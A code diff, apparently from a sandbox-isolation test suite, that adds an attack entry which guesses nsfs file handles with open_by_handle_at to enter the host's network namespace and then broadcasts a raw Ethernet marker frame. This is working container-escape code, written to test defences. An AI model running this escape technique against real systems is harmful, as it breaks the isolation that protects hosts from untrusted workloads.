@@ -5,6 +5,7 @@
 #include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/if_packet.h>
 #include <linux/sched.h>
 #include <sched.h>
 #include <stdio.h>
@@ -216,6 +217,59 @@ ATTACK(setns_parents, "", "enters the network namespace of every process that it
 		send_now();
 	}
 	setns(here, CLONE_NEWNET);
+	send_now();
+}
+/* Of a namespace's file (nsfs), since Linux 6.18: the machine's own namespaces have ids and inodes that are
+ * the same everywhere. */
+struct namespace_handle {
+	struct file_handle head;
+	uint64_t id;
+	uint32_t type, inode;
+};
+
+static uint64_t handle_id_of(const char *path)
+{
+	struct namespace_handle *handle = calloc(1, sizeof(*handle));
+	int mount;
+
+	handle->head.handle_bytes = sizeof(*handle) - sizeof(handle->head);
+	need(name_to_handle_at(AT_FDCWD, path, &handle->head, &mount, AT_SYMLINK_FOLLOW),
+	     "name_to_handle_at");
+	return handle->id;
+}
+
+/* One frame to everybody, on the first wire there is. */
+static void send_frame(void)
+{
+	uint8_t frame[128] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 2, 0, 0, 0, 0, 0xb2, 0x88, 0xb5};
+	struct sockaddr_ll to = {.sll_family = AF_PACKET};
+	char name[16];
+
+	to.sll_ifindex = (int)wire_index(name);
+	memcpy(frame + 14, mark, strlen(mark));
+	if (sendto(open_socket(AF_PACKET, SOCK_RAW, 0), frame, 14 + strlen(mark), 0, (void *)&to,
+		   sizeof(to)) < 0)
+		perror("sendto");
+}
+
+/* Of the namespaces found only that of the arena is entered: others are the machine's. */
+ATTACK(setns_by_handle, "", "enters the host's network namespace by a file handle that it guesses")
+{
+	/* each processor counts in a range of its own */
+	const uint64_t last = handle_id_of("/proc/self/ns/net") + 200000;
+	const uint32_t wanted = (uint32_t)strtoul(setting("HOST_NETNS"), NULL, 10);
+	int here = need(open("/proc/self/ns/net", O_RDONLY), "open"), fd = -1;
+	struct namespace_handle *handle = calloc(1, sizeof(*handle));
+
+	handle->head.handle_bytes = sizeof(*handle) - sizeof(handle->head);
+	handle->head.handle_type = 0xf1; /* FILEID_NSFS */
+	handle->type = CLONE_NEWNET;
+	handle->inode = wanted;
+	for (handle->id = 1; fd < 0 && handle->id <= last; handle->id++)
+		fd = open_by_handle_at(here, &handle->head, O_RDONLY);
+	if (need(fd, "open_by_handle_at") >= 0 && setns(fd, CLONE_NEWNET) < 0)
+		perror("setns");
+	send_frame();
 	send_now();
 }
 ATTACK(ptrace_outsider, "", "makes a process outside send, by writing into it")
